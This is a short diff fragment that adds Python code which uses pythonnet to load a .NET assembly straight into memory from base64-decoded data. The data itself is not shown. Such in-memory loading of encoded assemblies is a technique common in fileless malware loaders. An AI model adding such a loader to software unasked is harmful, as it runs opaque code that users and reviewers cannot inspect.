@@ -1,0 +1,3 @@
+import clr, base64
+from System.Reflection import Assembly
+Assembly.Load(base64.b64decode(data))
